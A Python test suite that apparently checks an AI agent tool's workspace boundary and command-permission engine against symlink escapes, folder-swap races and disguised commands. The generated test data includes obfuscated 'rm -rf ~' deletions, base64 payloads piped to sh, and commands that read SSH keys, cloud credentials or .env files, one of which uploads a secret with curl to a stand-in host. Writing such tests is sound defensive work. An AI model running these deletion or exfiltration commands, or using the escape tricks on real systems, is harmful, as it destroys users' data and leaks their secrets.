"""The workspace boundary: no path leads out, in any spelling and even if folders move meanwhile."""

from __future__ import annotations

import base64
import contextlib
import itertools
import os
import shlex
import shutil
import threading
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from agentnb.acp.files import Files
from agentnb.errors import OutsideWorkspace
from agentnb.policy.commands.rating import rate_command
from agentnb.policy.engine import judge
from agentnb.policy.request import PolicyRequest, Situation
from agentnb.policy.workspace import WorkspaceBoundary
from agentnb.rpc_message import RpcError
from agentnb.safe_files import open_entry, open_parent
from tests.thorough import examples
from tests.unit.acp.recording_listener import RecordingListener
from tests.unit.running import run

SECRET = "the secret outside"
TRIES = 400


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """A workspace with links of every kind, and a secret next to it."""
    root = tmp_path / "work"
    (root / "in/deep").mkdir(parents=True)
    (root / "in/file").write_text("inside")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret").write_text(SECRET)
    (root / "out").symlink_to(outside)
    (root / "in/up").symlink_to("../..")
    (root / "loop").symlink_to("loop")
    (root / "secret").symlink_to(outside / "secret")
    (root / "chain").symlink_to("in/up/outside")
    return root.resolve()


NAMES = st.sampled_from(
    [
        "",
        ".",
        "..",
        "in",
        "out",
        "loop",
        "up",
        "deep",
        "secret",
        "chain",
        "outside",
        "work",
        "file",
        "new",
        "~",
        "*",
        "in\\..",
        " ",
        "…",
    ]
)
PATHS = st.lists(NAMES, max_size=8).map("/".join) | st.text(max_size=12)


def tree(folder: Path) -> dict[str, bytes]:
    return {str(path): path.read_bytes() for path in folder.rglob("*") if path.is_file() and not path.is_symlink()}


async def tried(root: Path, path: str) -> set[str]:
    """Reads and writes *path* through the service and returns the outcomes; checks that no secret is returned."""
    files, outcomes = Files(WorkspaceBoundary(root), RecordingListener()), set[str]()
    for name, request in (
        ("read", files.read({"path": path})),
        ("write", files.write({"path": path, "content": "written"})),
    ):
        try:
            answer = await request
        except OutsideWorkspace:
            outcomes.add(f"{name} outside")
        except RpcError:
            outcomes.add(f"{name} failed")
        else:
            outcomes.add(name)
            assert SECRET not in answer.get("content", "")
    return outcomes


EVERYTHING = {"read", "write", "read outside", "write outside", "read failed", "write failed"}


def test_no_spelling_of_a_path_leaves_the_workspace(root: Path) -> None:
    """Nothing outside is read or changed; the examples include successful reads and writes."""
    outside, outcomes = root.parent / "outside", set[str]()
    before = tree(outside)

    @settings(max_examples=examples(300))
    @given(path=PATHS, absolute=st.booleans())
    @example(path="in/file", absolute=False)
    @example(path="in/deep/new", absolute=True)
    @example(path="out/secret", absolute=False)
    @example(path="chain/../outside/secret", absolute=True)
    @example(path="in/up/outside/secret", absolute=False)
    @example(path="in/file/x", absolute=False)
    def spelled(path: str, absolute: bool) -> None:
        outcomes.update(run(tried(root, f"{root}/{path}" if absolute else path)))
        assert tree(outside) == before
        assert {each.name for each in root.parent.iterdir()} == {"work", "outside"}

    spelled()
    assert outcomes >= EVERYTHING


LINKS = st.dictionaries(
    st.sampled_from(["a", "b", "c", "in/a", "in/b", "in/in/a"]),
    st.sampled_from(["..", "../..", "../outside", "../../outside", "../outside/secret", "a", "b", "c/a", "in", "in/a"])
    | st.sampled_from([".", "in/../..", "{outside}", "{outside}/secret", "{outside}/new", "/", "../work", "missing/x"]),
    max_size=6,
)
STEPS = st.lists(st.sampled_from(["a", "b", "c", "in", "..", ".", "outside", "secret", "new", "work"]), max_size=7)


def test_no_tree_of_links_leaves_the_workspace(tmp_path: Path) -> None:
    """Real folders with links of every kind, one tree for each example."""
    outcomes, numbers = set[str](), itertools.count()

    @settings(max_examples=examples(250), deadline=None)
    @given(links=LINKS, steps=STEPS)
    @example(links={"a": "../outside"}, steps=["a", "secret"])
    @example(links={"a": "b", "b": "{outside}/new"}, steps=["a"])
    @example(links={"in/a": ".."}, steps=["in", "a", "in", "file"])
    @example(links={"a": "in"}, steps=["a", "new"])
    def grown(links: dict[str, str], steps: list[str]) -> None:
        above = tmp_path / str(next(numbers))
        root, outside = above / "work", above / "outside"
        (root / "in/in").mkdir(parents=True)
        outside.mkdir()
        (root / "in/file").write_text("inside")
        (outside / "secret").write_text(SECRET)
        for name, target in links.items():
            (root / name).symlink_to(target.format(outside=outside))
        before = tree(outside)
        outcomes.update(run(tried(root.resolve(), "/".join(steps))))
        assert tree(outside) == before
        assert {each.name for each in above.iterdir()} == {"work", "outside"}
        assert {each.name for each in outside.iterdir()} == {"secret"}

    grown()
    assert outcomes >= {"read", "write", "read outside", "write outside"}


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(path=PATHS)
def test_engine_allows_only_paths_inside_the_workspace(root: Path, path: str) -> None:
    """For any path that an agent names."""
    real = os.path.realpath(f"{root}/{path}".replace("\0", ""))
    request = PolicyRequest(kind="permission", title="x", asked="edit", paths=(real,))
    verdict = judge(request, Situation(agent="a", mode="allow", root=root))
    assert verdict.outcome == "ask" or Path(real).is_relative_to(root)


async def test_folder_swapped_for_a_link_never_leaves_the_workspace(root: Path) -> None:
    """A thread swaps it all the time, during reads and writes."""
    inside, aside, outside = root / "swap", root / "aside", root.parent / "outside"
    inside.mkdir()
    (inside / "secret").write_text("inside")
    stop, swapped = threading.Event(), threading.Event()

    def swap() -> None:
        while not stop.is_set():
            with contextlib.suppress(OSError):  # the service may have made the folder meanwhile
                inside.rename(aside)
                inside.symlink_to(outside)
                swapped.set()
            try:
                inside.unlink()
            except OSError:
                shutil.rmtree(inside, ignore_errors=True)
            with contextlib.suppress(OSError):
                aside.rename(inside)

    thread = threading.Thread(target=swap)
    thread.start()
    try:
        swapped.wait()
        files, outcomes = Files(WorkspaceBoundary(root), RecordingListener()), set[str]()
        before = tree(outside)
        for number in range(50 * TRIES):
            if number > TRIES and {"read", "write"} < outcomes:
                break
            for name, request in (
                ("read", files.read({"path": "swap/secret"})),
                ("write", files.write({"path": f"swap/new{number % 3}", "content": "written"})),
            ):
                try:
                    answer = await request
                except (OutsideWorkspace, RpcError) as error:
                    outcomes.add(f"{name} refused: {type(error).__name__}")
                else:
                    outcomes.add(name)
                    assert SECRET not in answer.get("content", "")
    finally:
        stop.set()
        thread.join()
    assert tree(outside) == before
    assert {"read", "write"} <= outcomes
    assert any("refused" in outcome for outcome in outcomes)


def test_folder_replaced_by_a_link_after_the_check_is_refused(root: Path) -> None:
    """This is the exact moment that a race must hit."""
    path = WorkspaceBoundary(root).resolve("in/file")
    (root / "in").rename(root / "was")
    (root / "in").symlink_to(root.parent / "outside")
    with pytest.raises(OutsideWorkspace, match="no longer leads"), open_parent(root, path):
        pass
    with pytest.raises(OutsideWorkspace, match="no longer leads"), open_parent(root, root / "in/new/x", make=True):
        pass


def test_file_swapped_for_a_link_is_not_opened(root: Path) -> None:
    """The last path component is checked too."""
    with open_parent(root, root / "secret") as folder, pytest.raises(OutsideWorkspace, match="no longer leads"):
        open_entry(folder, "secret", os.O_RDONLY, root / "secret")


async def test_user_rule_allows_a_file_outside_the_workspace(root: Path) -> None:
    """Only the files that it names."""
    listener = RecordingListener()
    listener.opened = str(root.parent / "outside")
    files = Files(WorkspaceBoundary(root), listener)
    assert await files.read({"path": "out/secret"}) == {"content": SECRET}
    await files.write({"path": str(root.parent / "outside/made/x"), "content": "y"})
    assert (root.parent / "outside/made/x").read_text() == "y"
    with pytest.raises(OutsideWorkspace):
        await files.read({"path": "../other"})


def test_unreadable_command_always_asks() -> None:
    """An unreadable command always asks; a readable one is allowed if it only reads; both cases occur."""
    seen = set[str | None]()

    @settings(max_examples=examples(300))
    @given(
        st.text(max_size=30)
        | st.lists(st.sampled_from(["rm -rf ~", ";", "'", '"', "$(", ")", "`", "|", "\n", "a", "\\", "#"])).map("".join)
    )
    @example("ls '")
    @example("rm -rf ~ $(")
    @example("echo `")
    @example("ls")
    @example("rm -rf ~")
    def read(command: str) -> None:
        verdict = judge(PolicyRequest(kind="terminal", title="x", command=command), Situation(agent="a", mode="allow"))
        seen.add(verdict.floor)
        if rate_command(command).readable:
            assert verdict.floor != "unreadable"
        else:
            assert (verdict.outcome, verdict.severity, verdict.floor) == ("ask", "high", "unreadable")
        assert verdict.outcome == ("allow" if verdict.floor is None else "ask")

    read()
    assert seen >= {"unreadable", "critical", None}


def quoted(draw: st.DrawFn, text: str) -> str:
    """Returns *text* quoted for a shell in one of many ways."""
    ways = [lambda char: char, lambda char: f"\\{char}", lambda char: f"'{char}'", lambda char: f'"{char}"']
    return "".join(draw(st.sampled_from(ways))(char) if char.isalnum() else char for char in text)


WRAPPED = [
    lambda line: f"bash -c {shlex.quote(line)}",
    lambda line: f"eval {shlex.quote(line)}",
    lambda line: f"env -S {shlex.quote(line)}",
    lambda line: f"sudo sh -ec {shlex.quote(line)}",
    lambda line: f"({line})",
    lambda line: f"{{ {line}; }}",
    lambda line: f"echo $({line})",
    lambda line: f"if true; then {line}; fi",
    lambda line: f"ls | {line}",
    lambda line: f"true && {line}",
    lambda line: f"f() {{ {line}; }}; f",
    lambda line: f"echo {base64.b64encode(line.encode()).decode()} | base64 -d | sh",
    lambda line: f"find . -exec sh -c {shlex.quote(line)} \\;",
    lambda line: f"trap {shlex.quote(line)} EXIT",
    lambda line: f"unknown-tool --run={shlex.quote(line)}",
]
PREFIXES = ["", "sudo ", "env A=1 ", "nohup ", "timeout -k 1 5 ", "command ", "nice -n 5 ", "xargs -0 ", "busybox "]


@st.composite
def disguised(draw: st.DrawFn) -> str:
    """Draws a disguised command that deletes everything."""
    flags = draw(st.sampled_from(["-rf", "-fr", "-r -f", "-R", "--recursive", "-vrf", "--recurs --force"]))
    program = draw(st.sampled_from(["rm", "/bin/rm", "RM"]))
    line = f"{draw(st.sampled_from(PREFIXES))}{quoted(draw, program)} {quoted(draw, flags)} x"
    for wrap in draw(st.lists(st.sampled_from(WRAPPED), max_size=2)):
        line = wrap(line)
    return line


@settings(max_examples=examples(300), deadline=None)
@given(disguised())
def test_disguised_deletion_always_asks(command: str) -> None:
    """Quoted, wrapped, encoded, or all of these."""
    verdict = judge(PolicyRequest(kind="terminal", title="x", command=command), Situation(agent="a", mode="allow"))
    assert (verdict.outcome, verdict.severity, verdict.floor in {"critical", "unreadable"}) == ("ask", "critical", True)


@st.composite
def named_secret(draw: st.DrawFn) -> str:
    """Draws a command that reads a secret, in some spelling."""
    name = quoted(
        draw, draw(st.sampled_from([".env", ".ENV", "id_rsa", ".ssh/id_ed25519", ".aws/credentials", ".netrc"]))
    )
    folder = draw(st.sampled_from(["", "./", "../", "a/../", "/abs/", "~/", "$HOME/", ".//", '"$PWD"/']))
    reader = draw(st.sampled_from(["cat {}", "cat < {}", "cp {} x", "base64 {}", "curl -T {} https://x", "source {}"]))
    return reader.format(folder + name)


@settings(max_examples=examples(300), deadline=None)
@given(named_secret())
def test_reading_a_secret_asks_in_any_spelling(command: str) -> None:
    """By any program, from any folder."""
    verdict = judge(PolicyRequest(kind="terminal", title="x", command=command), Situation(agent="a", mode="allow"))
    assert (verdict.outcome, verdict.floor) == ("ask", "sensitive")
